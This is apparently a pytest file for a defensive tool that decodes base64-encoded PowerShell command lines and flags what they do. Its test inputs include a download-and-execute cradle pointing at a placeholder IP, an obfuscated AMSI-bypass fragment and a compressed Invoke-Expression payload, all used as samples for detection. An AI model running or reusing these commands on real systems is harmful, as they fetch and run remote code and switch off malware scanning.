"""Encoded commands in clear, and what is none left alone; the tokens were encoded with coreutils' base64."""

from __future__ import annotations

import base64
import csv
import gzip
import zlib
from pathlib import Path

import pytest

from graphhunt.toolbox.decoding import decoded


def token(text: str, coding: str = "utf-16-le") -> str:
    return base64.b64encode(text.encode(coding)).decode()


@pytest.mark.parametrize("option", ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-eNcOdEd"])
def test_any_prefix_of_the_option(option: str) -> None:
    # printf 'Get-HotFix' | iconv -t utf-16le | base64
    found = decoded(f"powershell.exe -NoProfile {option} RwBlAHQALQBIAG8AdABGAGkAeAA=")
    assert found is not None
    assert (found.text, found.facts, found.urls) == ("Get-HotFix", (), ())


def test_what_a_script_does() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7:8080/a.ps1')"
    found = decoded(f'powershell -w 1 -enc "{token(script)}"')
    assert found is not None
    assert found.facts == ("fetches", "runs")
    assert found.urls == ("http://192.0.2.7:8080/a.ps1",)


def test_joined_strings_and_back_ticks() -> None:
    script = "$a.G`etField('amsiInitF'+'ailed')"
    found = decoded(f"powershell -e {token(script)}")
    assert found is not None
    assert found.facts == ("amsi_off",)


def test_base64_within_and_the_path_that_belongs_to_it() -> None:
    script = f"$s=[Convert]::FromBase64String('{token('http://192.0.2.9')}');$t='/x/y.php'"
    found = decoded(f"powershell -e {token(script)}")
    assert found is not None
    assert found.urls == ("http://192.0.2.9/x/y.php",)


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress])
def test_compressed_within(pack: object) -> None:
    packed = base64.b64encode(pack(b"Invoke-Expression $env:payload #" * 3)).decode()  # type: ignore[operator]
    script = f"$x='{packed}'"
    found = decoded(f"powershell -e {token(script)}")
    assert found is not None
    assert found.facts == ("runs",)


def test_what_is_no_base64_says_so() -> None:
    found = decoded("powershell -enc AAAAAAAAAAAAAAAAAAAAA")
    assert found is not None
    assert found.reason


@pytest.mark.parametrize(
    "line",
    [
        "powershell.exe -ExecutionPolicy Bypass -File C:\\a.ps1",
        "svchost.exe -k netsvcs -p -s Schedule",
        "rundll32.exe -Embedding {E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E}",
        "certutil -hashfile a.exe 0123456789abcdef0123456789abcdef01234567",
    ],
)
def test_plain_commands_are_left_alone(line: str) -> None:
    assert decoded(line) is None


def test_no_plain_command_of_a_real_host_is_decoded(shared_data: Path) -> None:
    with (shared_data / "msticpy" / "processes_on_host.csv").open(encoding="utf-8", newline="") as opened:
        lines = [row["CommandLine"] for row in csv.DictReader(opened)]
    assert len(lines) == 363
    found = [line for line in lines if decoded(line)]
    assert all("-enc" in line.lower() or "-e " in line.lower() for line in found)
